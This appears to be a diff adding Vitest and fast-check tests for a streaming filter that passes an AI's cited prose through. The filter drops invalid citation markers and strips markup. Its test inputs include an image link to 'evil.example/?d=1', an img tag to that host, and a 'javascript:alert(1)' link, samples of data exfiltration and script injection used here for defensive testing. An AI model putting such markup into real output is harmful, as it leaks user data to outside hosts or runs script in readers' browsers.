@@ -1,0 +1,92 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { checkCitations } from './check-citations.js';
+import { createProseStream } from './stream-prose.js';
+
+function streamed(pieces: readonly string[], passageCount = 3): string[] {
+  const prose = createProseStream(passageCount);
+  return pieces.map((piece) => prose.push(piece)).filter((shown) => shown !== '');
+}
+
+/** Text that ends a word, so that all before it is let through. */
+const end = ' end of it';
+
+describe('a stream of prose', () => {
+  it('shows words as they come and holds back a marker until it is whole', () => {
+    expect(streamed(['Sleep ', 'helps', ' [', '2', ']', '. ', 'Naps', ' too'])).toEqual(['Sleep', ' helps [1].', ' Naps']);
+  });
+
+  it.each([
+    ['a marker of no passage', 'Sleep helps [9].'],
+    ['a picture', 'Sleep helps ![chart](https://evil.example/?d=1) a lot.'],
+    ['a picture by reference', 'Sleep helps ![chart][1] a lot.\n\n[1]: https://evil.example\nMore.'],
+    ['a link', 'Sleep [helps](javascript:alert(1)) a lot.'],
+    ['a tag', 'Sleep <img src="https://evil.example"> helps.'],
+    ['a refusal that is none', 'Not covered wounds heal slowly [1].'],
+    ['a heading', '# Sleep\n\nIt helps [1].'],
+    ['brackets of another kind', 'Sleep helps 【2†title】 a lot (source 3).'],
+  ])('ends like the whole text checked at once: %s', (_, text) => {
+    const whole = checkCitations(text + end, 3).text;
+    for (const size of [1, 2, 3, 7, 1000]) {
+      const pieces = (text + end).match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
+      expect(`${streamed(pieces).join('')} it`).toBe(whole);
+    }
+  });
+
+  it('says nothing while the model may be saying that the passages do not answer', () => {
+    expect(streamed(['NOT', ' COV', 'ERED', '.'])).toEqual([]);
+  });
+
+  it('goes on where a bracket is never closed', () => {
+    const shown = streamed(['Open [ here ', ...Array.from({ length: 900 }, () => 'words ')]).join('');
+    expect(shown.length).toBeGreaterThan(1000);
+  });
+
+  it('never shows markup, nor a marker of no passage, wherever the text is cut', () => {
+    const part = fc.constantFrom(
+      ...[
+        '[1]',
+        '[2]',
+        '[7]',
+        '[1,',
+        ' 9]',
+        '![a',
+        ']',
+        '(',
+        'http://e.x/',
+        ')',
+        '[',
+        ' ',
+        '\n',
+        '<img ',
+        'src=x>',
+        '# ',
+        'word',
+        '. ',
+        '!',
+        ':',
+        '**',
+      ],
+      ...['[x]: http://e.x', '【3', '】', '(source ', '[^1]', '<', '/a>'],
+    );
+    fc.assert(
+      fc.property(fc.array(part, { maxLength: 60 }), fc.array(fc.nat(8), { minLength: 1, maxLength: 20 }), (parts, sizes) => {
+        const text = parts.join('');
+        const pieces: string[] = [];
+        for (let at = 0, turn = 0; at < text.length; turn += 1) {
+          const size = 1 + (sizes[turn % sizes.length] ?? 0);
+          pieces.push(text.slice(at, at + size));
+          at += size;
+        }
+        let shown = '';
+        for (const piece of streamed([...pieces, end], 2)) {
+          shown += piece;
+          expect(shown).not.toMatch(/!\[|\]\(|^\s{0,3}\[[^\]\n]*\]:|<[a-z!/?]/im);
+          const markers = [...shown.matchAll(/\[(\d+)\]/g)].map((match) => Number(match[1]));
+          expect(markers.every((marker) => marker >= 1 && marker <= 2)).toBe(true);
+        }
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
